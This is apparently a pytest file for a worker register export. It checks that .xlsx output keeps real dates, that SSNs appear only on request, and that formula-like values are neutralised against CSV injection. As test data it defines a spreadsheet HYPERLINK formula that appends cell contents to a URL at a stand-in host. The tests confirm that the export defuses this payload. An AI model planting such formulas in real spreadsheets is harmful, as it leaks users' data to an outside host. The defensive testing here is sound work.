"""The register read back with the same libraries: real dates in .xlsx, formula-looking values stay text (CSV
injection), SSNs only when asked."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import python_calamine

from app.forms import Catalog
from app.request import State
from app.roster import register
from app.roster.plan import apply_plan, make_plan, read_roster
from app.store import Store
from tests.roster.helpers import WORKDAY, table, worker, write_csv

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


def imported(store: Store, catalog: Catalog, tmp_path: Path) -> list[str]:
    rows = [worker(0, worker__last_name="Example"), worker(1, request__external_ref=HOSTILE), worker(2)]
    t, m = read_roster(
        write_csv(tmp_path / "r.csv", table(WORKDAY, rows)), catalog
    )  # a CSV keeps "=" as text
    result = apply_plan(store, make_plan(store, t, m, catalog))
    sent = result.ids[2]
    store.enqueue(sent, "{}", sent)
    store.mark_sent(
        sent, {"confirmation": "SSA-42", "received_at": "2026-12-01T00:00:00Z", "request_id": sent}
    )
    store.set_outcome(
        sent,
        State.APPROVED,
        {"state": "approved", "certificate": {"start": "2027-01-04", "end": "2027-03-01"}},
    )
    return result.ids


def test_xlsx_has_real_dates_and_no_formula(store: Store, catalog: Catalog, tmp_path: Path) -> None:
    ids = imported(store, catalog, tmp_path)
    out = tmp_path / "register.xlsx"
    count = register.export(store, out, today=dt.date(2027, 2, 1), names={"de": "Germany"})
    assert count == 3
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert "SSN" not in header
    rows = [dict(zip(header, [c for c in line], strict=True)) for line in sheet.iter_rows(min_row=2)]
    assert [r["Request id"].value for r in rows] == ids
    hostile = rows[1]["Reference"]
    assert hostile.value == HOSTILE and hostile.data_type == "s"  # text, never a formula
    assert rows[0]["Start"].is_date and rows[0]["Start"].value == dt.datetime(2027, 1, 4)
    assert (
        rows[2]["Confirmation number"].value == "SSA-42" and rows[2]["State"].value == "Certificate approved"
    )
    assert rows[2]["Certificate end"].value == dt.datetime(2027, 3, 1) and rows[2]["Days left"].value == 28
    assert rows[0]["Agreement"].value == "Germany" and rows[0]["Worker"].value == "Example, Jane"
    calamine = python_calamine.load_workbook(str(out)).get_sheet_by_index(0).to_python()
    assert calamine[2][0] == HOSTILE, calamine[2]
    assert calamine[1][5] == dt.date(2027, 1, 4), calamine[1]


def test_csv_prefixes_formula_starts_and_ssn_only_when_asked(
    store: Store, catalog: Catalog, tmp_path: Path
) -> None:
    imported(store, catalog, tmp_path)
    out = tmp_path / "register.csv"
    register.export(store, out, with_ssn=True)
    lines = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert lines[1]["Reference"] == "'" + HOSTILE
    assert lines[0]["SSN"] == "123-45-6000" and lines[0]["Start"] == "2027-01-04"
    assert register.safe_text("-1+2") == "'-1+2" and register.safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert register.safe_text("\tcmd") == "'\tcmd" and register.safe_text("Núñez") == "Núñez"
    assert store.audit()[-1].detail == "format=csv rows=3 ssn=yes source=cli"
